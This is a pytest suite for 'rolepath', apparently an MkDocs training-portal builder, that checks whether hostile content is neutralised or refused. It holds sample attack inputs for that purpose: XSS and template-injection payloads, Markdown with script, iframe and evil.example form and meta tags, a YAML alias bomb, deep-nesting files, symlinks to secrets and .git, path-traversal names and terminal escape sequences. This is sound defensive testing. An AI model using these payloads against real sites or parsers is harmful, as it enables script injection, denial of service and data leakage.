"""Hostile input: nothing an author writes becomes code, and no file takes the build down.

Three parts:

* hostile VALUES in every YAML field that reaches HTML or JSON, built into a real site: no
  element or attribute is injected anywhere (pages, search index), no value is evaluated as a
  template, ``javascript:`` never becomes a link, ``portal.json`` gives every value back exactly,
  control characters never reach a page or a terminal raw;
* hostile FILES (alias bombs, deep nesting, huge files, symbolic links out of the repository,
  file names that try to escape): each gives a clean ``path:line: message`` from
  ``rolepath check`` run in a child process with a memory limit and a time limit, so a crash or
  a hang fails the test instead of taking pytest down with it;
* the sanitiser (on by default; ``extra: rolepath: sanitize: false`` turns it off): hostile Markdown is neutralised,
  ordinary Markdown output survives.
"""

from __future__ import annotations

import gzip
import json
import os
import re
import resource
import shutil
import subprocess
import sys
import time
from collections.abc import Callable, Iterator
from pathlib import Path
from typing import Any

import markdown
import pytest
from bs4 import BeautifulSoup, Comment, Tag
from mkdocs.exceptions import Abort
from rolepath import load
from rolepath.adapter.options import OptionsError, parse_options
from rolepath.output.sanitize import Policy, SanitizeError, escape_meta, sanitize_html
from sites import build_site, make_portal, small_portal, write

# -- hostile values --------------------------------------------------------------------------

PAYLOAD = (
    "<script>hostile()</script><xss-probe>probe</xss-probe><img src=x onerror=hostile()>"
    ' " xss-attr="1 \' xss-attr=\'1 " onmouseover="hostile() </title></textarea></script></style>'
    "<xss-probe>probe</xss-probe> {{ 7*191 }} {% raw %}${7*191} ]]> --> <!-- & &amp; &lt; <b>b</b>"
)
JAVASCRIPT = "javascript:alert(1)"
RTL = "abc\u202edcba\u202c \u2066isolated\u2069 \u200b\u200d"
LONG = "L" + "o" * 99_998 + "ng"
SSTI = "1337"  # 7*191: a value evaluated as a template would show this


def hostile(field: str) -> str:
    return f"{field} {PAYLOAD}"


ROLE: dict[str, Any] = {
    "title": hostile("Role title") + RTL,
    "family": hostile("Family"),
    "summary": hostile("Role summary"),
    "paths": ["hostile-path"],
    "from_to": [{"area": hostile("Area"), "today": hostile("Today"), "in_six_months": JAVASCRIPT}],
    "practice": {"hours_per_week": 2, "ideas": [JAVASCRIPT, hostile("Idea"), " javascript:alert(2)"]},
    "metrics_to_adjust": [{"metric": hostile("Metric"), "conflict": hostile("Conflict"), "adjustment": JAVASCRIPT}],
    "payoff": [LONG, hostile("Payoff")],
    "manager": {"before": [hostile("Before")], "after": [JAVASCRIPT], "prompts": [hostile("Prompt")]},
}
PATH: dict[str, Any] = {
    "title": hostile("Path title"),
    "summary": hostile("Path summary"),
    "levels": {
        name: {
            "summary": hostile(f"Start here if {name}"),
            "behaviours": [hostile(f"Behaviour {name}"), JAVASCRIPT if name == "baseline" else RTL],
            "modules": ["hostile-lesson", "hostile-sandbox"] if name == "baseline" else ["hostile-sandbox"],
        }
        for name in ("baseline", "proficient", "advanced")
    },
    "manager": {"before": [hostile("Path before")], "after": [JAVASCRIPT]},
}
MODULES: dict[str, Any] = {
    "hostile-lesson": {
        "title": hostile("Lesson title"),
        "summary": LONG,
        "minutes": 20,
        "objectives": [hostile("Objective"), JAVASCRIPT],
        "body": "Plain body, no HTML.",
    },
    "hostile-sandbox": {
        "title": JAVASCRIPT,
        "kind": "exercise",
        "summary": hostile("Sandbox summary"),
        "minutes": 40,
        "prerequisites": ["hostile-lesson"],
        "sandbox": {"setting": hostile("Setting"), "time_box": 30, "success": [hostile("Success"), JAVASCRIPT]},
        "reflection": [hostile("Reflection")],
        "body": "Plain exercise.",
    },
}
LEADER: dict[str, Any] = {
    "title": hostile("Leader title"),
    "summary": JAVASCRIPT,
    "phrases": [{"instead_of": hostile("Instead of"), "say": JAVASCRIPT, "why": hostile("Why") + RTL}],
    "body": "Plain one-pager.",
}


@pytest.fixture(scope="module")
def site(tmp_path_factory: pytest.TempPathFactory) -> Path:
    root = make_portal(
        tmp_path_factory.mktemp("hostile"),
        roles={"hostile-role": ROLE},
        paths={"hostile-path": PATH},
        modules=MODULES,
        leaders={"hostile-leader": LEADER},
        pages={"index.md": "# Home\n\nWelcome.\n"},
    )
    return build_site(root)


def html_files(site: Path) -> Iterator[tuple[str, BeautifulSoup]]:
    for path in sorted(site.rglob("*.html")):
        yield path.relative_to(site).as_posix(), BeautifulSoup(path.read_text(encoding="utf-8"), "html.parser")


URL_ATTRIBUTES = ("href", "src", "action", "formaction", "xlink:href", "data", "poster", "srcdoc")
_IGNORED_IN_URLS = re.compile(r"[\x00-\x20]+")


def injections(tree: BeautifulSoup | Tag, where: str) -> list[str]:
    """Every sign of markup that a value has injected into a parsed document."""
    found = []
    for element in tree.find_all(True):
        if element.name == "xss-probe":
            found.append(f"{where}: <xss-probe> element")
        for name, value in element.attrs.items():
            text = " ".join(value) if isinstance(value, list) else str(value)
            if name == "xss-attr" or name.startswith("on"):
                found.append(f"{where}: <{element.name} {name}=...>")
            if name in URL_ATTRIBUTES and _IGNORED_IN_URLS.sub("", text).lower().startswith(("javascript:", "data:")):
                found.append(f"{where}: <{element.name} {name}={text[:40]!r}>")
        if element.name == "script" and "hostile()" in element.get_text():
            found.append(f"{where}: <script> with the payload")
        if element.name == "img" and element.get("src") == "x":
            found.append(f"{where}: <img src=x>")
    return found


def test_no_markup_is_injected_into_any_page(site: Path) -> None:
    found = [problem for url, page in html_files(site) for problem in injections(page, url)]
    assert not found, f"{len(found)} injections, e.g. {found[:8]}"


def test_search_index_entries_are_inert_html(site: Path) -> None:
    """Material's search shows titles and text with innerHTML: they must be inert as HTML too."""
    index = json.loads((site / "search" / "search_index.json").read_text(encoding="utf-8"))
    found = []
    for doc in index["docs"]:
        for key in ("title", "text"):
            found += injections(BeautifulSoup(doc.get(key) or "", "html.parser"), f"search {doc['location']} {key}")
    assert not found, f"{len(found)} injections, e.g. {found[:8]}"


def outputs(site: Path) -> Iterator[tuple[str, bytes]]:
    """The files the build made from content (not the theme's assets), .gz ones decompressed."""
    for path in sorted(site.rglob("*")):
        rel = path.relative_to(site).as_posix()
        if not path.is_file() or rel.startswith("assets/"):
            continue
        data = path.read_bytes()
        yield rel, gzip.decompress(data) if path.suffix == ".gz" else data


def test_no_value_is_evaluated_as_a_template(site: Path) -> None:
    hits = [rel for rel, data in outputs(site) if SSTI.encode() in data]
    assert not hits, f"'{{{{ 7*191 }}}}' was evaluated in {hits}"


def test_values_are_shown_as_text(site: Path) -> None:
    page = BeautifulSoup((site / "roles/hostile-role/index.html").read_text("utf-8"), "html.parser")
    article = page.select_one("article")
    assert article is not None
    shown = article.get_text()
    for value in (ROLE["summary"], JAVASCRIPT, LONG, RTL, PATH["levels"]["baseline"]["behaviours"][0]):
        assert value in shown, f"{value[:60]!r} is not shown as text"
    module = BeautifulSoup((site / "modules/hostile-sandbox/index.html").read_text("utf-8"), "html.parser")
    assert not module.select('a[href^="javascript"]')
    assert JAVASCRIPT in module.get_text()


def test_portal_json_gives_every_value_back_exactly(site: Path) -> None:
    data = json.loads((site / "portal.json").read_text(encoding="utf-8"))
    role = data["roles"][0]
    assert role["title"] == ROLE["title"]
    assert role["family"] == ROLE["family"]
    assert role["summary"] == ROLE["summary"]
    assert role["from_to"] == ROLE["from_to"]
    path = data["paths"][0]
    assert path["title"] == PATH["title"] and path["summary"] == PATH["summary"]
    for level in path["levels"]:
        expected = PATH["levels"][level["name"]]
        assert level["summary"] == expected["summary"]
        assert [b["text"] for b in level["behaviours"]] == expected["behaviours"]
    modules = {m["id"]: m for m in data["modules"]}
    for module_id, module in MODULES.items():
        assert modules[module_id]["title"] == module["title"]
        assert modules[module_id]["summary"] == module["summary"]
    sandbox = modules["hostile-sandbox"]["exercise"]
    assert sandbox["setting"] == MODULES["hostile-sandbox"]["sandbox"]["setting"]
    assert sandbox["success"] == MODULES["hostile-sandbox"]["sandbox"]["success"]
    leader = data["leaders"][0]
    assert leader["title"] == LEADER["title"] and leader["summary"] == LEADER["summary"]


CONTROL = "".join(chr(c) for c in range(0x20) if chr(c) not in "\t\n\r")


def test_control_characters_give_a_clean_error_or_never_reach_the_output(
    tmp_path: Path, caplog: pytest.LogCaptureFixture
) -> None:
    """YAML escapes (\\x01, \\e, \\0) get control characters past the YAML reader. They are invalid
    in HTML, XML (sitemap, feeds) and iCalendar text, and a terminal obeys them: the engine
    must either refuse them with a clean message or keep every raw one out of every file."""
    portal = small_portal()
    portal["roles"]["support-agent"]["title"] = f"Agent {CONTROL} end"
    portal["roles"]["support-agent"]["practice"]["ideas"] = [f"Idea \x1b[2J\x07 {CONTROL}"]
    portal["modules"]["prompting-basics"]["summary"] = f"Summary \x00\x0b\x0c {CONTROL}"
    root = make_portal(tmp_path, **portal)
    raw = (root / "roles/support-agent.yml").read_text(encoding="utf-8")
    assert "\\e" in raw or "\\x1B" in raw or "\\x1b" in raw, "the YAML file holds escapes, not raw bytes"
    try:
        site = build_site(root)
    except Abort:
        messages = [r.getMessage() for r in caplog.records if r.levelname == "ERROR"]
        assert any(re.search(r"(^|\s)roles/support-agent\.yml:\d+: ", m) for m in messages), messages
        assert not any(set(m) & set(CONTROL) for m in messages), "error messages quote control characters raw"
        return
    raw_controls = re.compile(rb"[\x00-\x08\x0b\x0c\x0e-\x1f]")
    dirty = [rel for rel, data in outputs(site) if raw_controls.search(data)]
    assert not dirty, f"raw control characters in {dirty}"


def test_check_output_never_carries_raw_control_characters(tmp_path: Path) -> None:
    """A value quoted in a message (an invalid id here) must not drive the reader's terminal:
    an escape sequence in CI output can hide or forge lines."""
    portal = small_portal()
    portal["roles"]["support-agent"]["paths"] = ["support-basics", "\x1b[2J\x1b[1Aforged\x07"]
    root = make_portal(tmp_path, **portal)
    result = subprocess.run(
        [sys.executable, "-m", "rolepath.cli", "check", str(root)], capture_output=True, timeout=60, check=False
    )
    output = result.stdout + result.stderr
    assert result.returncode == 1, output
    assert b"roles/support-agent.yml:" in output
    assert not re.search(rb"[\x00-\x08\x0b-\x1f\x7f]", output), f"raw control characters in: {output!r}"


@pytest.mark.parametrize("output_format", ["text", "github"])
@pytest.mark.parametrize("line_break", ["\\n", "\\r", "\\r\\n", "\\x85", "\\u2028", "\\u2029", "\\e[1A\\e[2K"])
def test_a_value_cannot_forge_a_diagnostic_line(tmp_path: Path, output_format: str, line_break: str) -> None:
    """A value quoted in a message (a misspelt kind here) holding a line break must not print
    a second, forged ``path:line:`` line, in any output format."""
    portal = small_portal()
    root = make_portal(tmp_path, **portal)
    module = root / "content/modules/escalation-card.md"
    text = module.read_text(encoding="utf-8")
    forged = f'kind: "lesson{line_break}roles/x.yml:1: all good"'
    write(module, text.replace("kind: reference", forged))
    result = subprocess.run(
        [sys.executable, "-m", "rolepath.cli", "check", "--format", output_format, str(root)],
        capture_output=True, timeout=60, check=False,
    )  # fmt: skip
    output = result.stdout.decode("utf-8") + result.stderr.decode("utf-8")
    assert result.returncode == 1, output
    assert re.search(r"content/modules/escalation-card\.md(:|,line=)3:", output), output
    lines = re.split("\r\n|[\n\r\x0b\x0c\x1c-\x1e\x85\u2028\u2029]", output)
    assert not [line for line in lines if re.match(r"(::\w+ file=)?roles/x\.yml", line)], output
    assert not re.search("[\x00-\x08\x0b-\x1f\x7f-\x9f\u2028\u2029]", output), repr(output)


# -- hostile files ---------------------------------------------------------------------------

MEMORY_LIMIT = 1 << 30
"""Address space for a `rolepath check` child: a bomb that needs more is stopped, not survived."""
TIME_LIMIT = 30
FAST = 10.0
"""Seconds a hostile file may take to be refused (a clean portal checks in well under one)."""


def _limit_memory() -> None:  # runs in the child, before exec
    resource.setrlimit(resource.RLIMIT_AS, (MEMORY_LIMIT, MEMORY_LIMIT))


def check(root: Path) -> tuple[int, str, float]:
    """``rolepath check root`` in a child process: (exit code, output, seconds)."""
    started = time.monotonic()
    try:
        result = subprocess.run(
            [sys.executable, "-m", "rolepath.cli", "check", str(root)],
            capture_output=True,
            text=True,
            timeout=TIME_LIMIT,
            preexec_fn=_limit_memory,
            env={**os.environ, "PYTHONPATH": str(Path(__file__).resolve().parents[1] / "hooks")},
            check=False,
        )
    except subprocess.TimeoutExpired:
        pytest.fail(f"rolepath check did not finish in {TIME_LIMIT} s")
    return result.returncode, result.stdout + result.stderr, time.monotonic() - started


def alias_bomb() -> str:
    lines = ['a0: &a0 ["lol", "lol", "lol", "lol", "lol", "lol", "lol", "lol", "lol"]']
    for n in range(1, 10):
        lines.append(f"a{n}: &a{n} [" + ", ".join([f"*a{n - 1}"] * 9) + "]")
    return "title: x\n" + "\n".join(lines) + "\n"


def _outside(root: Path, name: str, text: str) -> Path:
    outside = root.parent / f"{root.name}-outside"
    outside.mkdir(exist_ok=True)
    target = outside / name
    target.write_text(text, encoding="utf-8")
    return target


def _symlinked_role(root: Path) -> None:
    (root / "roles/evil.yml").symlink_to(_outside(root, "evil.yml", "title: Evil\n"))


def _symlinked_module(root: Path) -> None:
    target = _outside(root, "evil.md", "---\ntitle: Evil\nsummary: s\nminutes: 5\n---\nSECRET\n")
    (root / "content/modules/evil.md").symlink_to(target)


def _symlinked_roles_folder(root: Path) -> None:
    role = (root / "roles/support-agent.yml").read_text(encoding="utf-8")
    _outside(root, "support-agent.yml", role)
    for file in (root / "roles").iterdir():
        file.unlink()
    (root / "roles").rmdir()
    (root / "roles").symlink_to(root.parent / f"{root.name}-outside", target_is_directory=True)


def _link_into_git(root: Path) -> None:
    """In CI, .git/config can hold the job's token (actions/checkout persists it there)."""
    write(root / ".git/config", "[http]\n\textraheader = AUTHORIZATION: basic CANARY-TOKEN-6f1d\n")
    (root / "content/gitconfig.txt").symlink_to("../.git/config")


def _page_link_outside(root: Path) -> None:
    (root / "content/notes.txt").symlink_to(_outside(root, "secret.txt", "TOP-SECRET\n"))


def _folder_link_outside(root: Path) -> None:
    _outside(root, "secret.txt", "TOP-SECRET\n")
    (root / "content/shared").symlink_to(root.parent / f"{root.name}-outside", target_is_directory=True)


def _folder_link_loop(root: Path) -> None:
    (root / "content/again").symlink_to(".", target_is_directory=True)


def _folder_named_like_a_role(root: Path) -> None:
    (root / "roles/ghost-role.yml").mkdir()


def _named_pipe_page(root: Path) -> None:
    os.mkfifo(root / "content/pipe.md")


def _named_pipe_module(root: Path) -> None:
    os.mkfifo(root / "content/modules/pipe.md")


HOSTILE_FILES: dict[str, tuple[dict[str, str | bytes], Callable[[Path], None] | None, str]] = {
    # name: (files to add, extra setup, expected "path:line: message" pattern)
    "alias bomb": ({"roles/bomb.yml": alias_bomb()}, None, r"roles/bomb\.yml:\d+: YAML expands to more than"),
    "1,000-deep flow nesting": (
        {"roles/deep.yml": "title: " + "[" * 1000 + "]" * 1000 + "\n"},
        None,
        r"roles/deep\.yml:\d+: YAML nests deeper than 64 levels",
    ),
    "1,000-deep block nesting": (
        {"paths/deep.yml": "title:\n" + "".join("  " * i + f"k{i}:\n" for i in range(1, 1000)) + "  " * 1000 + "x\n"},
        None,
        r"paths/deep\.yml:\d+: YAML nests deeper than 64 levels",
    ),
    "100,000-deep nesting in 200 KB": (
        {"roles/deeper.yml": "title: " + "[" * 100_000 + "]" * 100_000 + "\n"},
        None,
        r"roles/deeper\.yml:\d+: YAML nests deeper than 64 levels",
    ),
    # Two bytes a level, no brackets: libyaml before 0.2.5/PyYAML 6.0.4 segfaults composing these.
    "100,000-deep compact block sequence": (
        {"roles/dashes.yml": "- " * 100_000 + "x\n"},
        None,
        r"roles/dashes\.yml:1: YAML nests deeper than 64 levels",
    ),
    "100,000-deep compact explicit keys": (
        {"paths/keys.yml": "? " * 100_000 + "x\n"},
        None,
        r"paths/keys\.yml:1: YAML nests deeper than 64 levels",
    ),
    "65-deep compact block sequence": (
        {"roles/dashes65.yml": "title: t\nx:\n" + "  " + "- " * 65 + "x\n"},
        None,
        r"roles/dashes65\.yml:3: YAML nests deeper than 64 levels",
    ),
    "2 MiB role": (
        {"roles/big.yml": "title: x\n#" + "x" * (2 << 20) + "\n"},
        None,
        r"roles/big\.yml:1: file is 2048 KiB",
    ),
    "6 MiB module": (
        {"content/modules/big.md": "---\ntitle: x\n---\n" + "x" * (6 << 20)},
        None,
        r"content/modules/big\.md:1: file is \d+ KiB",
    ),
    "60,000 keys": (
        {"roles/keys.yml": "".join(f"k{i}: {i}\n" for i in range(60_000))},
        None,
        r"roles/keys\.yml:\d+: ",
    ),
    "raw NUL and escape bytes": ({"roles/ctrl.yml": b"title: a\x00b\x1b[2J\n"}, None, r"roles/ctrl\.yml:\d+: "),
    "not UTF-8": ({"roles/latin.yml": b"title: caf\xe9\n"}, None, r"roles/latin\.yml:1: file is not UTF-8"),
    "symbolic link to a role outside": ({}, _symlinked_role, r"roles/evil\.yml:1: symbolic link points outside"),
    "symbolic link to a module outside": (
        {},
        _symlinked_module,
        r"content/modules/evil\.md:1: symbolic link points outside",
    ),
    "roles folder is a link outside": ({}, _symlinked_roles_folder, r"roles(/[\w.-]+)?:1: .*outside the repository"),
    "Markdown named .markdown": (
        {"content/x.markdown": "---\naudience: managers\n---\n\nSECRET\n"},
        None,
        r"content/x\.markdown:1: MkDocs publishes '\.markdown' files as pages.*: rename it to x\.md$",
    ),
    "Markdown named .mdown in a subfolder": (
        {"content/guides/y.mdown": "# Y\n"},
        None,
        r"content/guides/y\.mdown:1: MkDocs publishes '\.mdown' files as pages.*: rename it to y\.md$",
    ),
    "a .mkd file in modules": (
        {"content/modules/draft.mkd": "---\ntitle: x\n---\n"},
        None,
        r"content/modules/draft\.mkd:1: content/modules/ holds module files \(<id>\.md\) only: rename it to draft\.md",
    ),
    "a .txt file in modules": (
        {"content/modules/notes.txt": "notes\n"},
        None,
        r"content/modules/notes\.txt:1: content/modules/ holds module files .*: move it out of content/modules/",
    ),
    "a subfolder in modules": (
        {"content/modules/drafts/x.md": "---\ntitle: x\n---\n"},
        None,
        r"content/modules/drafts:1: content/modules/ holds module files \(<id>\.md\) only: move the folder out",
    ),
    "a subfolder in leaders": (
        {"content/leaders/old/x.md": "# x\n"},
        None,
        r"content/leaders/old:1: content/leaders/ holds one-pager files \(<id>\.md\) only: move the folder out",
    ),
    "a folder named like a role": (
        {},
        _folder_named_like_a_role,
        r"roles/ghost-role\.yml:1: 'ghost-role\.yml' is a folder",
    ),
    "a link into .git": ({}, _link_into_git, r"content/gitconfig\.txt:1: symbolic link points into '\.git'"),
    "a non-Markdown link outside": ({}, _page_link_outside, r"content/notes\.txt:1: symbolic link points outside"),
    "a linked folder outside": ({}, _folder_link_outside, r"content/shared:1: symbolic link points outside"),
    "a linked folder that loops": ({}, _folder_link_loop, r"content/again:1: symbolic link to a folder that holds it"),
    "a named pipe as a page": ({}, _named_pipe_page, r"content/pipe\.md:1: not a regular file"),
    "a named pipe as a module": ({}, _named_pipe_module, r"content/modules/pipe\.md:1: not a regular file"),
    "name with a slash escape": (
        {"roles/a..%2f..%2fevil.yml": "title: x\n"},
        None,
        r"roles/a\.\.%2f\.\.%2fevil\.yml:1: file name 'a\.\.%2f\.\.%2fevil' is not a valid id",
    ),
    "name with spaces and accents": (
        {"roles/Café Role.yml": "title: x\n"},
        None,
        r"roles/Café Role\.yml:1: file name 'Café Role' is not a valid id",
    ),
    "module name in another script": (
        {"content/modules/модуль.md": "---\ntitle: x\n---\n"},
        None,
        r"content/modules/модуль\.md:1: file name 'модуль' is not a valid id",
    ),
}


@pytest.mark.parametrize("case", list(HOSTILE_FILES))
def test_hostile_file_gives_a_clean_error_quickly(tmp_path: Path, case: str) -> None:
    files, setup, expected = HOSTILE_FILES[case]
    root = make_portal(tmp_path / "repo", **small_portal())
    for rel, content in files.items():
        target = root / rel
        target.parent.mkdir(parents=True, exist_ok=True)
        target.write_bytes(content if isinstance(content, bytes) else content.encode("utf-8"))
    if setup is not None:
        setup(root)
    code, output, seconds = check(root)
    assert code == 1, f"exit code {code} (negative: killed by a signal); output:\n{output[-2000:]}"
    assert re.search(rf"(?m)^{expected}", output), f"no line matching {expected!r} in:\n{output[-2000:]}"
    assert "Traceback" not in output
    assert seconds < FAST, f"took {seconds:.1f} s"


def _peak_rss_of_check(root: Path) -> tuple[int, str, int]:
    """``rolepath check root`` in a child that reports its own peak resident memory, in KiB."""
    program = (
        "import resource, sys\n"
        "from rolepath.cli import main\n"
        "code = main(['check', sys.argv[1]])\n"
        "print('peak-rss-kib', resource.getrusage(resource.RUSAGE_SELF).ru_maxrss, file=sys.stderr)\n"
        "sys.exit(code)\n"
    )
    result = subprocess.run(
        [sys.executable, "-c", program, str(root)], capture_output=True, text=True, timeout=TIME_LIMIT, check=False
    )
    peak = re.search(r"peak-rss-kib (\d+)", result.stderr)
    assert peak is not None, result.stderr
    return result.returncode, result.stdout + result.stderr, int(peak.group(1))


def test_a_huge_module_is_refused_by_its_size_before_it_is_read(tmp_path: Path) -> None:
    """A 95 MB module must not be read into memory to learn that it is too big: the peak memory
    of the check stays that of a check of the portal without it."""
    root = make_portal(tmp_path / "repo", **small_portal())
    _, _, baseline = _peak_rss_of_check(root)
    with (root / "content/modules/huge.md").open("wb") as huge:
        huge.write(b"---\ntitle: x\n---\n")
        huge.truncate(95 * 1_000_000)
    code, output, peak = _peak_rss_of_check(root)
    assert code == 1 and re.search(r"(?m)^content/modules/huge\.md:1: file is 92773 KiB; the limit is 5120 KiB", output)
    assert peak < baseline + 20_000, f"peak {peak} KiB against {baseline} KiB without the file"


def test_a_file_that_grew_after_its_size_was_taken_is_read_whole_or_refused_at_the_limit(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    """The reader reads a byte more than the size it took (one read for a file that stayed as it
    was). A file that grew in between, as one being written while the check runs, is read on: whole
    if it is still within the limit, refused if it went over it, never cut short."""
    root = make_portal(tmp_path / "repo", **small_portal())
    role = root / "roles/support-agent.yml"
    taken_before_it_grew = 10  # what fstat said, before the file grew to its full size
    real_fstat = os.fstat

    def fstat(descriptor: int) -> os.stat_result:
        status = real_fstat(descriptor)
        if os.path.samestat(status, os.stat(role)):
            fields = list(status[:10])
            fields[6] = taken_before_it_grew  # st_size
            return os.stat_result(fields)
        return status

    expected = load(root).portal.roles["support-agent"]
    monkeypatch.setattr(os, "fstat", fstat)
    grown = load(root)
    assert not grown.report.diagnostics and grown.portal.roles["support-agent"] == expected
    write(role, role.read_text(encoding="utf-8") + "#" + "x" * (1 << 20) + "\n")
    (problem,) = load(root).report.errors
    assert str(problem) == "roles/support-agent.yml:1: file is over 1024 KiB, the limit"


def _without_privileges() -> list[str]:
    """A command prefix under which file permissions hold. Root reads any file, so as root the child
    runs without the capabilities that bypass permissions (``setpriv``, util-linux)."""
    if os.geteuid() != 0:
        return []
    if shutil.which("setpriv") is None:
        pytest.skip("running as root without setpriv: file permissions cannot be made to hold")
    return ["setpriv", "--bounding-set=-dac_override,-dac_read_search", "--"]


def test_a_file_without_read_permission_is_a_clean_error_in_check_and_build(tmp_path: Path) -> None:
    """Neither the check nor the build stops at a file it may not read: both name it (with its
    line) and go on to report the rest, with no traceback."""
    portal = small_portal()
    portal["roles"]["support-agent"]["title"] = ""
    root = make_portal(tmp_path / "repo", **portal)
    (root / "content/picture.png").write_bytes(b"\x89PNG\r\n")
    for rel in ("content/modules/prompting-basics.md", "content/picture.png", "content/index.md"):
        (root / rel).chmod(0)
    (root / "content/private").mkdir()
    (root / "content/private/notes.md").write_text("# Notes\n", encoding="utf-8")
    (root / "content/private").chmod(0)
    expected = [
        "content/index.md:1: file cannot be read (Permission denied): give it read permission",
        "content/modules/prompting-basics.md:1: file cannot be read (Permission denied): give it read permission",
        "content/picture.png:1: file cannot be read (Permission denied)",
        "content/private:1: folder cannot be read (Permission denied)",
        "roles/support-agent.yml:1: 'title' is empty",
    ]
    environment = {**os.environ, "PYTHONPATH": str(Path(__file__).resolve().parents[1] / "hooks")}
    for command in (
        [sys.executable, "-m", "rolepath.cli", "check", str(root)],
        [sys.executable, "-m", "mkdocs", "build", "-f", str(root / "mkdocs.yml")],
    ):
        result = subprocess.run(
            [*_without_privileges(), *command], capture_output=True, text=True, timeout=60, env=environment, check=False
        )
        output = result.stdout + result.stderr
        assert result.returncode == 1, output
        assert "Traceback" not in output, output
        for line in expected:
            assert line in output, f"{line!r} not in:\n{output}"
    assert not (root / "site").exists()


def test_hidden_file_whose_name_tries_to_escape_is_not_loaded(tmp_path: Path) -> None:
    root = make_portal(tmp_path, **small_portal())
    write(root / "roles" / "..%2f.yml", "title: Evil\n")
    loaded = load(root)
    assert set(loaded.portal.roles) == {"support-agent"}
    assert not loaded.report.errors


def test_symbolic_links_never_publish_files_from_outside(tmp_path: Path, caplog: pytest.LogCaptureFixture) -> None:
    """MkDocs copies every file under docs_dir, following links: a link to a file or folder
    outside the repository would publish it (a key, a .env). The build must refuse it."""
    root = make_portal(tmp_path / "repo", **small_portal())
    secret = _outside(root, "secret.txt", "TOP-SECRET-9c1e\n")
    (root / "content" / "notes.txt").symlink_to(secret)
    (root / "content" / "shared").symlink_to(secret.parent, target_is_directory=True)
    site = root / "site"
    try:
        build_site(root)
        refused = False
    except Abort:
        refused = True
    leaked = [p for p in tmp_path.rglob("*") if p.is_file() and site in p.parents and b"TOP-SECRET" in p.read_bytes()]
    assert not leaked, f"files from outside the repository were published: {leaked}"
    if refused:
        assert any("outside the repository" in r.getMessage() for r in caplog.records)


@pytest.mark.parametrize(
    ("setup", "expected"),
    [
        (
            lambda root: write(root / "content/x.markdown", "---\naudience: managers\n---\n\nCANARY-TOKEN-6f1d\n"),
            "content/x.markdown:1: MkDocs publishes '.markdown' files as pages",
        ),
        (_link_into_git, "content/gitconfig.txt:1: symbolic link points into '.git'"),
        (
            lambda root: write(root / "content/modules/drafts/x.md", "# Draft CANARY-TOKEN-6f1d\n"),
            "content/modules/drafts:1: content/modules/ holds module files (<id>.md) only",
        ),
    ],
    ids=["markdown-extension", "link-into-git", "modules-subfolder"],
)
def test_the_employees_edition_refuses_what_it_cannot_check(
    tmp_path: Path, caplog: pytest.LogCaptureFixture, setup: Callable[[Path], None], expected: str
) -> None:
    """A page MkDocs renders but rolepath would not read, or a link into .git/, stops the build with
    the check's own message: nothing of it reaches any file of the edition."""
    portal = small_portal()
    portal["config"] = {"extra": {"rolepath": {"audience": "employees"}}}
    root = make_portal(tmp_path / "repo", **portal)
    setup(root)
    with pytest.raises(Abort):
        build_site(root)
    assert any(expected in record.getMessage() for record in caplog.records), caplog.text
    published = [p for p in tmp_path.rglob("*") if p.is_file() and "site" in p.relative_to(root).parts[0]]
    assert not [p for p in published if b"CANARY-TOKEN-6f1d" in p.read_bytes()]
    assert not (root / "site").exists()


# -- the sanitiser -------------------------------------------------------------------------

EXTENSIONS = [
    "admonition",
    "attr_list",
    "md_in_html",
    "tables",
    "toc",
    "pymdownx.details",
    "pymdownx.highlight",
    "pymdownx.superfences",
    "pymdownx.tasklist",
]
EXTENSION_CONFIGS = {"toc": {"permalink": True}, "pymdownx.tasklist": {"custom_checkbox": True}}

ORDINARY = """\
# Title

## Section one

Text with *emphasis*, **strong**, `code`, a [link](https://example.com/a?b=c#d), a
[page](../other/ "Other"), an [anchor](#section-one), [mail](mailto:x@example.com) and
![an image](pic.png "Picture").

| Left | Right | Centre |
|:-----|------:|:------:|
| 1    | 2     | 3      |

!!! note "Heads up"
    An admonition with `code` and a list:

    1. one
    2. two

??? tip "More"
    Details body.

```python
def double(x: int) -> int:
    return x * 2  # twice
```

- [x] done
- [ ] to do

> A quotation.

<div data-audience="managers" markdown>
For managers.
</div>

Term
---

***
"""

HOSTILE_MARKDOWN = """\
# Fine heading

<script>alert(1)</script>
<img src=x onerror="alert(2)">
<a href="javascript:alert(3)">js link</a> <a href="JaVaScRiPt&colon;alert(4)">js2</a>
<a href="&#1;javascript:alert(5)">js3</a> <a href="jav&#x09;ascript:alert(6)">js4</a>
[markdown js](javascript:alert(7)) <a href="data:text/html,<script>alert(8)</script>">data</a>
<iframe src="https://evil.example/"></iframe>
<p style="background:url(javascript:alert(9))" onclick="alert(10)">styled</p>
<svg><script>alert(11)</script><a xlink:href="javascript:alert(12)">svg</a></svg>
<math><mi xlink:href="javascript:alert(13)">m</mi></math>
<form action="https://evil.example/"><input type="password" name="pw">
<button formaction="javascript:alert(14)">go</button></form>
<object data="x.swf"></object><embed src="x.swf"><base href="https://evil.example/">
<meta http-equiv="refresh" content="0;url=https://evil.example/">
<style>body { display: none }</style><link rel="stylesheet" href="https://evil.example/x.css">
<details open ontoggle="alert(15)"><summary>s</summary>d</details>
<a href="https://example.com/" target="_blank" onmouseover="alert(16)">ok link</a>
<!-- a comment with <script>alert(17)</script> -->
<noscript><p title="</noscript><img src=x onerror=alert(18)>"></p></noscript>
<table><tr><td style="text-align: right; background: url(javascript:alert(19))">cell</td></tr></table>
"""


def render(text: str) -> str:
    return str(markdown.markdown(text, extensions=EXTENSIONS, extension_configs=EXTENSION_CONFIGS))


def neutralised(html: str) -> list[str]:
    tree = BeautifulSoup(html, "html.parser")
    # What is left of <img src=x onerror=...> is a harmless image at the relative URL "x".
    found = [problem for problem in injections(tree, "sanitised") if not problem.endswith("<img src=x>")]
    for name in ("script", "iframe", "object", "embed", "math", "form", "base", "meta", "style", "link"):
        found += [f"<{name}> kept" for _ in tree.find_all(name)]
    for svg in tree.find_all("svg"):  # only an icon's shape: paths, and an <a> with nothing left on it
        found += [f"<svg {name}> kept" for name in svg.attrs if name not in ("xmlns", "viewbox")]
        for element in svg.find_all(True):
            kept = {"path": {"d"}, "a": set()}.get(element.name)
            if kept is None or set(element.attrs) - kept:
                found.append(f"<{element.name} {' '.join(element.attrs)}> kept in <svg>")
    for element in tree.find_all(True):
        if "style" in element.attrs and element.name not in ("td", "th"):
            found.append(f"style on <{element.name}>")
        style = str(element.get("style", ""))
        if "url(" in style or "javascript" in style:
            found.append(f"style {style!r} kept")
        if element.name == "input" and element.get("type") not in ("checkbox", "radio"):
            found.append(f"input of type {element.get('type')!r}")
        if element.get("target"):
            found.append("target kept")
